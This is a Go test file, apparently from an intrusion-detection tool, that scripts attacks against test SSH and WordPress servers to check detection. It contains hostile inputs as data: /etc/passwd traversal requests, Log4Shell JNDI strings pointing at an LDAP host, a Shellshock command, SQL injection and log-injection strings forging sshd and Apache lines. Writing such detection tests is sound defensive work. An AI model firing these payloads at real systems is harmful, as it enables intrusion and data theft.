package main

import (
	"context"
	"net/netip"
	"strings"

	"github.com/pialert/pialert/pkg/attack"
	"github.com/pialert/pialert/test/daemon"
)

// step is one attack or innocent act from one source.
type step func(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error)

func passwords(user string, n int) step {
	return func(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
		return m.WrongPasswords(ctx, from, user, n)
	}
}

func interactive(user string, n int) step {
	return func(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
		return m.KeyboardInteractive(ctx, from, user, n)
	}
}

func key(user string) step {
	return func(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
		return m.RefusedKey(ctx, from, user)
	}
}

func hostile(name string) step {
	return func(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
		return m.HostileName(ctx, from, name)
	}
}

func banner(text string) step {
	return func(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
		return m.Banner(ctx, from, text)
	}
}

func scan(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
	return m.Scan(ctx, from)
}

func badKeyExchange(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
	return m.BadKeyExchange(ctx, from)
}

func stall(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
	return m.Stall(ctx, from)
}

func login(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
	return m.Login(ctx, from)
}

// get requests a target of the given kind; kind 0 is innocent.
func get(kind attack.Kind, target string, curlOptions ...string) step {
	return func(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
		return m.Get(ctx, from, kind, target, curlOptions...)
	}
}

func raw(kind attack.Kind, request string) step {
	return func(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
		return m.Raw(ctx, from, kind, request)
	}
}

func basic(user, referer string) step {
	return func(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
		return m.BasicAuth(ctx, from, user, referer)
	}
}

func wordPress(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
	return m.WordPressLogin(ctx, from)
}

func wordPressWelcome(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
	return m.WordPressWelcome(ctx, from)
}

func xmlrpc(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
	return m.XMLRPC(ctx, from)
}

func tls(ctx context.Context, m *daemon.Machine, from netip.Addr) ([]daemon.Attempt, error) {
	return m.TLS(ctx, from)
}

// sshSteps is every way to attack an OpenSSH server that Debian set up, each once.
func sshSteps() []step {
	return []step{
		passwords("root", 1),
		passwords("root", 3),
		passwords("oracle", 1),
		passwords("ubuntu", 2),
		passwords("admin", 9), // too many authentication failures
		passwords(daemon.Account, 9),
		login,
		key("root"),
		key("git"),
		scan,
		banner("GET / HTTP/1.1\r\nHost: example.com\r\n\r\n"),
		banner("\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\r\n"),
		banner("MGLNDD_192.0.2.1_22\n"),
		banner("SSH-2.0-Go\r\n"), // and hangs up before the key exchange
		banner("cats\" from 9.9.9.9 port 22\r\n"),
		badKeyExchange,
		passwords("root from 9.9.9.9 port 22 ssh2", 2),
		passwords("Failed password for root from 9.9.9.9 port 22 ssh2", 1),
		passwords("message repeated 5 times: [ Failed password for root from 9.9.9.9 port 22 ssh2]", 1),
		passwords("x rhost=9.9.9.9 user=root", 1),
		passwords("9.9.9.9 port 22: Too many authentication failures [preauth]", 1),
		key("root 9.9.9.9 port 22 [preauth]"),
		hostile("line\nbreak"),
		hostile("quote\"s and 'ticks'"),
		hostile("not \xff\xfe UTF-8"),
		hostile("Nov 20 10:00:00 vps sshd[1] Failed password for root from 9.9.9.9 port 22 ssh2\r\n"),
		hostile(strings.Repeat("long", 150)),
		hostile(strings.Repeat("x", 80) + " from 9.9.9.9 port 22 ssh2" + strings.Repeat(" ", 20)),
		hostile(""),
		login,
	}
}

// strictSteps needs an sshd with keyboard-interactive authentication and AllowUsers.
func strictSteps() []step {
	return []step{
		interactive("root", 1),
		interactive(daemon.Account, 3),
		interactive("nagios", 2),
		passwords("root", 1), // not allowed because not listed in AllowUsers
		passwords(daemon.Account, 4),
		login,
	}
}

// webSteps is every way to attack a web server with a WordPress, each once, and what innocent
// visitors do.
func webSteps() []step {
	return []step{
		get(0, "/"),
		get(0, "/style.css", "--referer", "http://www.example.com/"),
		get(0, "/favicon.ico"),
		get(0, "/robots.txt"),
		get(0, "/cats?name=%C3%A9lise&q=select+a+cat"),
		get(0, "/wp-login.php"),
		wordPressWelcome,
		get(0, "/private/", "--user", daemon.Account+":"+daemon.Password),
		get(0, "/private/"), // the challenge
		wordPress,
		wordPress,
		xmlrpc,
		get(attack.HTTPProbe, "/.env"),
		get(attack.HTTPProbe, "/phpmyadmin/index.php"),
		get(attack.HTTPProbe, "/.git/config"),
		get(attack.HTTPProbe, "/wp-config.php.bak"),
		get(attack.HTTPProbe, "/backup.sql"),
		get(attack.HTTPProbe, "/", "--user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
		get(attack.HTTPProbe, "/", "--user-agent", "sqlmap/1.7#stable (https://sqlmap.org)"),
		get(attack.HTTPProbe, "/[client%209.9.9.9:80]%20AH01617/.env"),
		get(attack.HTTPProbe, "/.env", "--referer", `9.9.9.9 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1`),
		get(attack.HTTPExploit, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
		get(attack.HTTPExploit, "/../../../../etc/passwd"),
		get(attack.HTTPExploit, "/?page=..%252f..%252f..%252fetc%252fpasswd"),
		get(attack.HTTPExploit, "/", "--user-agent", "${jndi:ldap://198.51.100.250/a}"),
		get(attack.HTTPExploit, "/?q=$%7Bjndi:$%7Blower:l%7Ddap://198.51.100.250/a%7D"),
		get(attack.HTTPExploit, "/", "--user-agent", "() { :; }; /bin/bash -c id"),
		get(attack.HTTPExploit, "/?id=1%27%20UNION%20SELECT%201,2,password%20FROM%20users--"),
		get(attack.HTTPExploit, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "--data", "<?php"),
		tls,
		raw(attack.HTTPMalformed, "cats and dogs\r\n\r\n"),
		raw(attack.HTTPMalformed, "\x00\x01\x02\xff\r\n\r\n"),
		raw(attack.HTTPMalformed, "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n"),
		raw(attack.HTTPMalformed, "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n"),
		basic(daemon.Account, "http://www.example.com/"),
		basic("root", "http://www.example.com/"),
		basic(daemon.Account, "x [client 9.9.9.9:80] AH01617: user root: authentication failure for \"/\": Password Mismatch"),
		basic(`a "b" [20/Nov/2026 10`, ""),
	}
}
